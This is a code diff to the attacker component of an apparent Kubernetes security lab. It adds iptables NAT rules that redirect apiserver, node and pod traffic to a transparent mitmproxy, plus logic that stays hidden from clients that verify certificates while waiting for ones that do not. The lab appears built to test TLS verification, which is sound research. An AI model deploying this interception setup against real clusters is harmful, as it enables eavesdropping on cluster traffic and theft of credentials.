@@ -1,10 +1,22 @@
 """The attacker container's process (``lab role attacker``), in the router's network namespace.
 
-``LAB_ATTACK=off`` (honest): the router forwards, nobody looks. ``LAB_ATTACK=intercept``: for each
-port in ``LAB_ATTACK_PORTS`` (default ``10250``, the kubelet API), connections *from the
-apiserver* are redirected to mitmproxy on the router itself::
+``LAB_ATTACK=off`` (honest): the router forwards, nobody looks. ``LAB_ATTACK=intercept``: three
+sets of connections are redirected to mitmproxy on the router itself:
+
+1. the apiserver's to the kubelets, each port of ``LAB_ATTACK_PORTS`` (default ``10250``, the
+   kubelet API; scenarios 1 and 2);
+2. the apiserver's to pod IPs, every port (the apiserver proxy, scenario 4);
+3. the nodes' and their pods' to the apiserver's port 443 (scenarios 5 and 9). The addon passes a
+   client through untouched once it refused mitmproxy's certificate (lab/attacker/giveup.py): the
+   verifying kubelets keep working, and the attacker keeps the cluster alive to wait for a victim
+   that does not verify.
+
+::
 
     iptables -t nat -A PREROUTING -s 10.221.1.10 -p tcp --dport 10250 -j REDIRECT --to-port 8080
+    iptables -t nat -A PREROUTING -s 10.221.1.10 -d 10.244.0.0/16 -p tcp -j REDIRECT --to-port 8080
+    iptables -t nat -A PREROUTING -s 10.221.2.0/24 -d 10.221.1.10 -p tcp --dport 443 -j REDIRECT --to-port 8080
+    iptables -t nat -A PREROUTING -s 10.244.0.0/16 -d 10.221.1.10 -p tcp --dport 443 -j REDIRECT --to-port 8080
     mitmdump --mode transparent --listen-port 8080 --ssl-insecure -s lab/attacker/addon.py
 
 mitmproxy finds the original destination itself (SO_ORIGINAL_DST) and opens its own connection
@@ -36,6 +48,14 @@ def nat_rules(top: Topology, ports: list[int]) -> list[list[str]]:
     """The PREROUTING rules (without -A/-D) that hand the apiserver's connections to mitmproxy."""
     return [["PREROUTING", "-s", top.apiserver_ip, "-p", "tcp", "--dport", str(port),
              "-j", "REDIRECT", "--to-port", str(LISTEN_PORT)] for port in ports]
+
+
+def pod_and_apiserver_rules(top: Topology) -> list[list[str]]:
+    """Rules 2 and 3 of the docstring: apiserver -> pod IPs; nodes and pods -> apiserver:443."""
+    redirect = ["-j", "REDIRECT", "--to-port", str(LISTEN_PORT)]
+    return [["PREROUTING", "-s", top.apiserver_ip, "-d", top.cluster_cidr, "-p", "tcp", *redirect],
+            *(["PREROUTING", "-s", source, "-d", top.apiserver_ip, "-p", "tcp", "--dport", str(top.apiserver_port),
+               *redirect] for source in (top.nodes_cidr, top.cluster_cidr))]
 
 
 def mitmdump_argv() -> list[str]:
@@ -74,7 +94,7 @@ def main(top: Topology) -> int:
         print(f"attacker: LAB_ATTACK must be off or intercept, not {mode!r}", file=sys.stderr)
         return 2
     ports = [int(p) for p in os.environ.get("LAB_ATTACK_PORTS", "10250").replace(",", " ").split()]
-    rules = nat_rules(top, ports)
+    rules = nat_rules(top, ports) + pod_and_apiserver_rules(top)
     argv = mitmdump_argv()
     print("+ " + shlex.join(argv), flush=True)
     child = subprocess.Popen(argv)
